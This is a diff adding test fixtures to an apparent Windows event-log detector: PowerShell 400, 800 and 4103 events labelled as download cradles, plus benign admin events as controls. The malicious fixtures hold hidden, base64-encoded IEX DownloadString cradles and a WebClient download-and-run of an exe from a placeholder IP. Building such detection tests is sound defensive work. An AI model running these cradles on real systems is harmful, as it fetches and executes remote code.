@@ -551,6 +551,82 @@ static const struct {
      "download-cradle",
      HC_NONE,
      HL_NOT_SEEN},
+    {"Windows PowerShell 400: a host started with a hidden cradle",
+     {EV("PowerShell", "Windows PowerShell", 400, 4,
+         "<EventData><Data>Available</Data><Data>None</Data><Data>"
+         "\tNewEngineState=Available\n\tPreviousEngineState=None\n\n"
+         "\tSequenceNumber=13\n\n\tHostName=ConsoleHost\n\tHostVersion="
+         "5.1.14393.0\n\tHostId=5d1a2f5e\n\tHostApplication=powershell.exe "
+         "-nop -w hidden -e "
+         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQ"
+         "BiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
+         "AGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuAD"
+         "cALwBhAC4AcABzADEAJwApAA==\n\tEngineVersion=5.1.14393.0\n"
+         "</Data></EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"Windows PowerShell 400: an admin's console",
+     {EV("PowerShell", "Windows PowerShell", 400, 4,
+         "<EventData><Data>Available</Data><Data>None</Data><Data>"
+         "\tNewEngineState=Available\n\tHostName=ConsoleHost\n"
+         "\tHostApplication=C:\\Windows\\System32\\WindowsPowerShell\\v1.0"
+         "\\powershell.exe -NoProfile\n\tEngineVersion=5.1.14393.0\n"
+         "</Data></EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"Windows PowerShell 800: a pipeline that downloads and runs",
+     {EV("PowerShell", "Windows PowerShell", 800, 4,
+         "<EventData><Data>$Sw=new-object Net.WebClient;$d='C:\\Users"
+         "\\Public\\x.exe';foreach($u in 'http://198.51.100.7/a'.Split("
+         "',')){try{$Sw.DownloadFile($u,$d);Invoke-Item $d;break}catch{}}"
+         "</Data><Data>\tDetailSequence=1\n\tHostApplication=powershell "
+         "-w hidden\n</Data><Data>CommandInvocation(New-Object): "
+         "\"New-Object\"\nParameterBinding(New-Object): name=\"TypeName\"; "
+         "value=\"Net.WebClient\"</Data></EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"Windows PowerShell 800 alone: the host's encoded command",
+     {EV("PowerShell", "Windows PowerShell", 800, 4,
+         "<EventData><Data>Get-Item $d</Data><Data>\tDetailSequence=1\n"
+         "\tHostApplication=powershell -nop -w hidden -enc "
+         "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQ"
+         "BiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBu"
+         "AGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuAD"
+         "cALwBhAC4AcABzADEAJwApAA==\n\tEngineVersion=5.1\n</Data>"
+         "<Data>CommandInvocation(Get-Item): \"Get-Item\"</Data>"
+         "</EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"PowerShell 4103: Invoke-Expression given a download",
+     {EV("Microsoft-Windows-PowerShell",
+         "Microsoft-Windows-PowerShell/Operational", 4103, 4,
+         "<EventData>" D("ContextInfo",
+                         "        Severity = Informational\n        Host "
+                         "Application = powershell.exe\n") D("UserData", "")
+             D("Payload",
+               "CommandInvocation(Invoke-Expression): \"Invoke-"
+               "Expression\"\nParameterBinding(Invoke-Expression): name="
+               "\"Command\"; value=\"(New-Object Net.WebClient).Download"
+               "String('http://198.51.100.7/a')\"") "</EventData>")},
+     "download-cradle",
+     HC_NONE,
+     HL_NOT_SEEN},
+    {"PowerShell 4103: an admin listing services",
+     {EV("Microsoft-Windows-PowerShell",
+         "Microsoft-Windows-PowerShell/Operational", 4103, 4,
+         "<EventData>" D(
+             "ContextInfo",
+             "        Host Application = "
+             "powershell.exe\n") D("Payload",
+                                   "CommandInvocation(Get-Service): "
+                                   "\"Get-Service\"") "</EventData>")},
+     NULL,
+     HC_NONE,
+     HL_NOT_SEEN},
     {"schtasks for the backup program",
      {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1,
          4,
